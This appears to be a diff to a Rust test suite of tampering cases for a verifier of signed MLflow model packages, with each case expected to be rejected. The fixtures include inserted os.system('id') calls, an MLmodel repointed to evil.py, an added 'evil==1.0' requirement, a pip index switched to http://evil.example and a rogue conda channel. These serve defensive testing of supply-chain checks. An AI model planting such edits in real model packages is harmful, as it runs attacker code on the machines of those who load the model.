@@ -15,24 +15,50 @@ use std::os::unix::net::UnixListener;
 
 const SIGNATURE: &str = "model.sig";
 const CARD: &str = "model_card.md";
+const PYFUNC: &str = "model_factory_pyfunc.py";
 
 pub const FORGERIES: &[Tampering] = &[
-    // Files that other tools trust: MLflow runs the module that MLmodel names.
-    tampering("an MLmodel that names evil.py", Link::Descriptions, "it is     loader_module: evil", |t| {
-        t.rewrite("MLmodel", |text| text.replace("loader_module: mlflow.xgboost", "loader_module: evil"));
+    // Files that other tools trust: MLflow runs the program that MLmodel names, and installs what requirements.txt lists.
+    tampering("an MLmodel that names evil.py", Link::Descriptions, "it is     model_code_path: evil.py", |t| {
+        t.rewrite("MLmodel", |text| text.replace("model_factory_pyfunc.py", "evil.py"));
     }),
     tampering("an MLmodel that names evil.py, and evil.py in the list", Link::Files, "\"evil.py\" is no file", |t| {
-        t.rewrite("MLmodel", |text| text.replace("loader_module: mlflow.xgboost", "loader_module: evil"));
+        t.rewrite("MLmodel", |text| text.replace("model_factory_pyfunc.py", "evil.py"));
         t.add("evil.py", "import os\nos.system('id')\n");
+    }),
+    tampering("an MLmodel that loads evil", Link::Descriptions, "it is     loader_module: evil", |t| {
+        t.rewrite("MLmodel", |text| text.replace("loader_module: mlflow.pyfunc.model", "loader_module: evil"));
     }),
     tampering("an MLmodel with a folder of code", Link::Descriptions, "MLmodel does not follow", |t| {
         t.rewrite("MLmodel", |text| text.replace("    code: null", "    code: code"));
     }),
-    tampering("an MLmodel without an input", Link::Descriptions, "MLmodel does not follow", |t| {
-        t.rewrite("MLmodel", |text| text.replacen("\"type\":\"float\"", "\"type\":\"double\"", 1));
+    tampering("an MLmodel that reads another model", Link::Descriptions, "MLmodel does not follow", |t| {
+        t.rewrite("MLmodel", |text| text.replacen("path: model.json", "path: bom.json", 1));
     }),
-    tampering("requirements that MLflow would install", Link::Files, "\"requirements.txt\" is no file", |t| {
-        t.add("requirements.txt", "evil==1.0\n");
+    tampering("an MLmodel with another input", Link::Descriptions, "MLmodel does not follow", |t| {
+        t.rewrite("MLmodel", |text| text.replacen("\"type\":\"numeric\"", "\"type\":\"categorical\"", 1));
+    }),
+    tampering("a line more in the program", Link::Descriptions, "model_factory_pyfunc.py does not follow", |t| {
+        t.rewrite(PYFUNC, |text| format!("{text}os.system('id')\n"));
+    }),
+    tampering(
+        "a program that turns scores around",
+        Link::Descriptions,
+        "model_factory_pyfunc.py does not follow",
+        |t| {
+            t.rewrite(PYFUNC, |text| text.replace("return booster.predict(", "return 1 - booster.predict("));
+        },
+    ),
+    tampering("a requirement more", Link::Descriptions, "requirements.txt does not follow", |t| {
+        t.rewrite("requirements.txt", |text| format!("{text}evil==1.0\n"));
+    }),
+    tampering("requirements from elsewhere", Link::Descriptions, "python_env.yaml does not follow", |t| {
+        t.rewrite("python_env.yaml", |text| {
+            text.replace("-r requirements.txt", "-i http://evil.example -r requirements.txt")
+        });
+    }),
+    tampering("another channel", Link::Descriptions, "conda.yaml does not follow", |t| {
+        t.rewrite("conda.yaml", |text| text.replace("- conda-forge", "- evil"));
     }),
     tampering("a hidden file in the list", Link::Files, "\".env\" is no file", |t| t.add(".env", "A=1\n")),
     tampering("a better metric in the card", Link::Descriptions, "model_card.md does not follow", |t| {
